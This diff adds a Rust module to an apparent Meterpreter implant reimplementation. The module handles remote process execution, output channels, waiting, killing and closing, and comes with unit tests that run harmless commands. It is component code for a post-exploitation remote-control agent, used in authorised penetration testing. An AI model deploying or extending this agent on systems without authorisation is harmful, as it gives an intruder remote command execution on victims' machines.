@@ -0,0 +1,466 @@
+use std::io::{self, Read, Write};
+use std::process::{ChildStdin, Command, Stdio};
+use std::sync::mpsc::Sender;
+use std::thread;
+use std::time::Duration;
+
+use meterpreter_protocol::packet::{Packet, PacketResult};
+use meterpreter_protocol::tlv::{Add, Query, TlvType};
+
+use crate::channel::{self, Channel, ChannelManager};
+use crate::dispatcher::{optional_value, required_value, CommandHandler, CommandResult};
+use crate::session::Session;
+use crate::stdapi::tlv;
+
+pub const PROCESS_EXECUTE_FLAG_HIDDEN: u32 = 1 << 0;
+pub const PROCESS_EXECUTE_FLAG_CHANNELIZED: u32 = 1 << 1;
+
+const WAIT_POLL_INTERVAL: Duration = Duration::from_millis(10);
+
+pub const COMMANDS: &[(&str, CommandHandler)] = &[
+    ("stdapi_sys_process_execute", process_execute),
+    ("stdapi_sys_process_wait", process_wait),
+    ("stdapi_sys_process_kill", process_kill),
+    ("stdapi_sys_process_close", process_close),
+];
+
+// stdin of the child, its stdout and stderr are pushed to the handler by reader threads
+struct ProcessChannel {
+    stdin: Option<ChildStdin>,
+}
+
+impl Channel for ProcessChannel {
+    fn write(&mut self, data: &[u8]) -> io::Result<usize> {
+        let stdin = self
+            .stdin
+            .as_mut()
+            .ok_or_else(|| io::Error::from(io::ErrorKind::BrokenPipe))?;
+        stdin.write_all(data)?;
+        stdin.flush()?;
+        Ok(data.len())
+    }
+
+    fn close(&mut self) -> io::Result<()> {
+        // dropping stdin lets the child see EOF, the child itself keeps running
+        self.stdin.take();
+        Ok(())
+    }
+}
+
+fn process_execute(
+    request: &Packet,
+    response: &mut Packet,
+    session: &mut Session,
+) -> CommandResult {
+    let path = required_value(request, tlv::StdapiProcessPath)?.clone();
+    let arguments = optional_value(request, tlv::StdapiProcessArguments)
+        .cloned()
+        .unwrap_or_default();
+    let flags = optional_value(request, tlv::StdapiProcessFlags)
+        .copied()
+        .unwrap_or(0);
+    // PROCESS_EXECUTE_FLAG_HIDDEN only matters on windows, there is no window to hide here
+    let channelized = flags & PROCESS_EXECUTE_FLAG_CHANNELIZED != 0;
+
+    let mut command = Command::new(path);
+    command.args(split_arguments(&arguments).ok_or(PacketResult::BadArguments)?);
+    if channelized {
+        command
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped());
+    } else {
+        command
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null());
+    }
+
+    let mut child = command.spawn()?;
+    let pid = child.id();
+
+    if channelized {
+        let channel_id = session.channels.next_id();
+        let stdout = child.stdout.take().ok_or(PacketResult::InvalidFunction)?;
+        let stderr = child.stderr.take().ok_or(PacketResult::InvalidFunction)?;
+        let channel = ProcessChannel {
+            stdin: child.stdin.take(),
+        };
+        session.channels.insert(channel_id, channel);
+        pump_output(
+            session.channels.clone(),
+            channel_id,
+            stdout,
+            stderr,
+            session.outbound(),
+        );
+        response.add(TlvType::ChannelId, channel_id);
+    }
+
+    session.processes.lock().unwrap().insert(pid as u64, child);
+    response.add(tlv::StdapiProcessId, pid);
+    response.add(tlv::StdapiProcessHandle, pid as u64);
+    Ok(())
+}
+
+fn process_wait(request: &Packet, _response: &mut Packet, session: &mut Session) -> CommandResult {
+    let handle = *required_value(request, tlv::StdapiProcessHandle)?;
+    // polled so that the process table isn't locked for the whole wait and the command
+    // can be given up on when it times out
+    loop {
+        let exited = session
+            .processes
+            .lock()
+            .unwrap()
+            .get_mut(&handle)
+            .ok_or(PacketResult::BadArguments)?
+            .try_wait()?;
+        if exited.is_some() {
+            return Ok(());
+        }
+        if session.is_cancelled() {
+            return Err(PacketResult::Timeout);
+        }
+        thread::sleep(WAIT_POLL_INTERVAL);
+    }
+}
+
+fn process_kill(request: &Packet, _response: &mut Packet, session: &mut Session) -> CommandResult {
+    let pids: Vec<u32> = request.get_all(tlv::StdapiProcessId).copied().collect();
+    if pids.is_empty() {
+        return Err(PacketResult::BadArguments);
+    }
+
+    // only processes started by this session can be signalled
+    let mut processes = session.processes.lock().unwrap();
+    for pid in pids {
+        let child = processes
+            .get_mut(&(pid as u64))
+            .ok_or(PacketResult::BadArguments)?;
+        child.kill()?;
+        child.wait()?;
+    }
+    Ok(())
+}
+
+fn process_close(request: &Packet, _response: &mut Packet, session: &mut Session) -> CommandResult {
+    let handle = *required_value(request, tlv::StdapiProcessHandle)?;
+    let mut child = session
+        .processes
+        .lock()
+        .unwrap()
+        .remove(&handle)
+        .ok_or(PacketResult::BadArguments)?;
+    // closing only gives up the handle, the process keeps running. Once it exits it still
+    // has to be waited for, or it stays around as a zombie
+    if child.try_wait()?.is_none() {
+        thread::spawn(move || child.wait());
+    }
+    Ok(())
+}
+
+// Splits the command line like a POSIX shell would, without expanding anything. Single
+// quotes keep everything, double quotes let a backslash escape \ " $ and `. None when a
+// quote isn't closed
+fn split_arguments(line: &str) -> Option<Vec<String>> {
+    let mut arguments = vec![];
+    let mut current: Option<String> = None;
+    let mut chars = line.chars();
+    while let Some(c) = chars.next() {
+        match c {
+            c if c.is_whitespace() => {
+                arguments.extend(current.take());
+                continue;
+            }
+            '\'' => {
+                let quoted = current.get_or_insert_with(String::new);
+                loop {
+                    match chars.next()? {
+                        '\'' => break,
+                        c => quoted.push(c),
+                    }
+                }
+            }
+            '"' => {
+                let quoted = current.get_or_insert_with(String::new);
+                loop {
+                    match chars.next()? {
+                        '"' => break,
+                        '\\' => match chars.next()? {
+                            c @ ('\\' | '"' | '$' | '`') => quoted.push(c),
+                            c => {
+                                quoted.push('\\');
+                                quoted.push(c);
+                            }
+                        },
+                        c => quoted.push(c),
+                    }
+                }
+            }
+            '\\' => {
+                // a trailing backslash stands for itself
+                let escaped = chars.next().unwrap_or('\\');
+                current.get_or_insert_with(String::new).push(escaped);
+            }
+            c => current.get_or_insert_with(String::new).push(c),
+        }
+    }
+    arguments.extend(current);
+    Some(arguments)
+}
+
+fn pump_output(
+    channels: ChannelManager,
+    channel_id: u32,
+    stdout: impl Read + Send + 'static,
+    stderr: impl Read + Send + 'static,
+    outbound: Sender<Packet>,
+) {
+    thread::spawn(move || {
+        let stderr_channels = channels.clone();
+        let stderr_outbound = outbound.clone();
+        let stderr_thread = thread::spawn(move || {
+            channel::forward_output(&stderr_channels, channel_id, stderr, &stderr_outbound)
+        });
+
+        channel::forward_output(&channels, channel_id, stdout, &outbound);
+        let _ = stderr_thread.join();
+        channel::notify_closed(&channels, channel_id, &outbound);
+    });
+}
+
+#[cfg(test)]
+mod test {
+    use std::sync::mpsc::{self, Receiver};
+    use std::time::Duration;
+
+    use meterpreter_protocol::packet::{Packet, PacketResult};
+    use meterpreter_protocol::tlv::{Add, TlvType};
+
+    use super::{split_arguments, PROCESS_EXECUTE_FLAG_CHANNELIZED};
+    use crate::channel;
+    use crate::dispatcher::{required_value, Dispatcher};
+    use crate::session::Session;
+    use crate::stdapi::tlv;
+    use crate::stdapi::Stdapi;
+
+    fn setup() -> (Dispatcher, Session, Receiver<Packet>) {
+        let mut dispatcher = Dispatcher::new();
+        channel::register(&mut dispatcher);
+        dispatcher.add_extension(Box::new(Stdapi));
+        dispatcher.load_extension("stdapi").unwrap();
+        let (sender, receiver) = mpsc::channel();
+        (dispatcher, Session::new(sender), receiver)
+    }
+
+    fn execute(
+        dispatcher: &mut Dispatcher,
+        session: &mut Session,
+        path: &str,
+        arguments: &str,
+        flags: u32,
+    ) -> Packet {
+        let mut request = Packet::new(String::from("stdapi_sys_process_execute"));
+        request.add(tlv::StdapiProcessPath, path.to_string());
+        request.add(tlv::StdapiProcessArguments, arguments.to_string());
+        request.add(tlv::StdapiProcessFlags, flags);
+        dispatcher.dispatch(&request, session)
+    }
+
+    // collects everything pushed for the channel until the agent reports it closed
+    fn collect_output(receiver: &Receiver<Packet>, channel_id: u32) -> Vec<u8> {
+        let mut output = vec![];
+        loop {
+            let packet = receiver.recv_timeout(Duration::from_secs(5)).unwrap();
+            assert_eq!(
+                *required_value(&packet, TlvType::ChannelId).unwrap(),
+                channel_id
+            );
+            match &packet.get_method()[..] {
+                "core_channel_write" => {
+                    output.extend(required_value(&packet, TlvType::ChannelData).unwrap())
+                }
+                "core_channel_close" => return output,
+                method => panic!("Unexpected method {}", method),
+            }
+        }
+    }
+
+    #[test]
+    fn test_execute_echo_channelized() {
+        let (mut dispatcher, mut session, receiver) = setup();
+        let response = execute(
+            &mut dispatcher,
+            &mut session,
+            "/bin/echo",
+            "hello world",
+            PROCESS_EXECUTE_FLAG_CHANNELIZED,
+        );
+
+        assert_eq!(response.get_result(), Ok(PacketResult::Success));
+        let channel_id = *required_value(&response, TlvType::ChannelId).unwrap();
+        assert_eq!(collect_output(&receiver, channel_id), b"hello world\n");
+    }
+
+    #[test]
+    fn test_cat_round_trip() {
+        let (mut dispatcher, mut session, receiver) = setup();
+        let response = execute(
+            &mut dispatcher,
+            &mut session,
+            "/bin/cat",
+            "",
+            PROCESS_EXECUTE_FLAG_CHANNELIZED,
+        );
+        let channel_id = *required_value(&response, TlvType::ChannelId).unwrap();
+        let handle = *required_value(&response, tlv::StdapiProcessHandle).unwrap();
+
+        let mut write = Packet::new(String::from("core_channel_write"));
+        write.add(TlvType::ChannelId, channel_id);
+        write.add(TlvType::ChannelData, b"ping".to_vec());
+        let write_response = dispatcher.dispatch(&write, &mut session);
+        assert_eq!(write_response.get_result(), Ok(PacketResult::Success));
+        assert_eq!(
+            *required_value(&write_response, TlvType::Length).unwrap(),
+            4
+        );
+
+        let echoed = receiver.recv_timeout(Duration::from_secs(5)).unwrap();
+        assert_eq!(echoed.get_method(), "core_channel_write");
+        assert_eq!(
+            required_value(&echoed, TlvType::ChannelData).unwrap(),
+            b"ping"
+        );
+
+        // closing the channel closes stdin, so cat exits on its own
+        let mut close = Packet::new(String::from("core_channel_close"));
+        close.add(TlvType::ChannelId, channel_id);
+        assert_eq!(
+            dispatcher.dispatch(&close, &mut session).get_result(),
+            Ok(PacketResult::Success)
+        );
+
+        let mut wait = Packet::new(String::from("stdapi_sys_process_wait"));
+        wait.add(tlv::StdapiProcessHandle, handle);
+        assert_eq!(
+            dispatcher.dispatch(&wait, &mut session).get_result(),
+            Ok(PacketResult::Success)
+        );
+        // the handler closed the channel itself, so no close is pushed back
+        assert!(receiver.recv_timeout(Duration::from_millis(200)).is_err());
+
+        let mut close_process = Packet::new(String::from("stdapi_sys_process_close"));
+        close_process.add(tlv::StdapiProcessHandle, handle);
+        assert_eq!(
+            dispatcher
+                .dispatch(&close_process, &mut session)
+                .get_result(),
+            Ok(PacketResult::Success)
+        );
+        assert!(session.processes.lock().unwrap().is_empty());
+    }
+
+    #[test]
+    fn test_kill() {
+        let (mut dispatcher, mut session, receiver) = setup();
+        let response = execute(
+            &mut dispatcher,
+            &mut session,
+            "/bin/cat",
+            "",
+            PROCESS_EXECUTE_FLAG_CHANNELIZED,
+        );
+        let channel_id = *required_value(&response, TlvType::ChannelId).unwrap();
+        let pid = *required_value(&response, tlv::StdapiProcessId).unwrap();
+
+        let mut kill = Packet::new(String::from("stdapi_sys_process_kill"));
+        kill.add(tlv::StdapiProcessId, pid);
+        assert_eq!(
+            dispatcher.dispatch(&kill, &mut session).get_result(),
+            Ok(PacketResult::Success)
+        );
+        assert!(collect_output(&receiver, channel_id).is_empty());
+    }
+
+    #[test]
+    fn test_execute_not_channelized() {
+        let (mut dispatcher, mut session, receiver) = setup();
+        let response = execute(&mut dispatcher, &mut session, "/bin/echo", "hidden", 0);
+
+        assert_eq!(response.get_result(), Ok(PacketResult::Success));
+        assert!(!response.tlvs.contains_key(&TlvType::ChannelId));
+        assert!(receiver.recv_timeout(Duration::from_millis(200)).is_err());
+    }
+
+    #[test]
+    fn test_split_arguments() {
+        assert_eq!(
+            split_arguments("-c 'echo hi'  \"a \\\"b\\\" \\n\" c\\ d ''").unwrap(),
+            ["-c", "echo hi", "a \"b\" \\n", "c d", ""]
+        );
+        assert_eq!(split_arguments("").unwrap(), Vec::<String>::new());
+        assert!(split_arguments("'open").is_none());
+        assert!(split_arguments("\"open").is_none());
+    }
+
+    #[test]
+    fn test_quoted_arguments() {
+        let (mut dispatcher, mut session, receiver) = setup();
+        let response = execute(
+            &mut dispatcher,
+            &mut session,
+            "/bin/sh",
+            "-c 'echo \"$0\" $1' 'first one' second",
+            PROCESS_EXECUTE_FLAG_CHANNELIZED,
+        );
+
+        assert_eq!(response.get_result(), Ok(PacketResult::Success));
+        let channel_id = *required_value(&response, TlvType::ChannelId).unwrap();
+        assert_eq!(collect_output(&receiver, channel_id), b"first one second\n");
+
+        let response = execute(&mut dispatcher, &mut session, "/bin/echo", "'open", 0);
+        assert_eq!(response.get_result(), Ok(PacketResult::BadArguments));
+    }
+
+    #[cfg(target_os = "linux")]
+    #[test]
+    fn test_close_reaps_the_process() {
+        let (mut dispatcher, mut session, _receiver) = setup();
+        let response = execute(&mut dispatcher, &mut session, "/bin/true", "", 0);
+        let pid = *required_value(&response, tlv::StdapiProcessId).unwrap();
+        let handle = *required_value(&response, tlv::StdapiProcessHandle).unwrap();
+        let proc_path = format!("/proc/{}", pid);
+
+        // exited but not waited for, a zombie until closed
+        let started = std::time::Instant::now();
+        while !std::fs::read_to_string(format!("{}/stat", proc_path))
+            .unwrap()
+            .contains(") Z ")
+        {
+            assert!(started.elapsed() < Duration::from_secs(5));
+            std::thread::sleep(Duration::from_millis(10));
+        }
+
+        let mut close = Packet::new(String::from("stdapi_sys_process_close"));
+        close.add(tlv::StdapiProcessHandle, handle);
+        assert_eq!(
+            dispatcher.dispatch(&close, &mut session).get_result(),
+            Ok(PacketResult::Success)
+        );
+        assert!(!std::path::Path::new(&proc_path).exists());
+    }
+
+    #[test]
+    fn test_execute_missing_binary() {
+        let (mut dispatcher, mut session, _receiver) = setup();
+        let response = execute(
+            &mut dispatcher,
+            &mut session,
+            "/nonexistent/binary",
+            "",
+            PROCESS_EXECUTE_FLAG_CHANNELIZED,
+        );
+
+        assert_eq!(response.get_result(), Ok(PacketResult::FileNotFound));
+    }
+}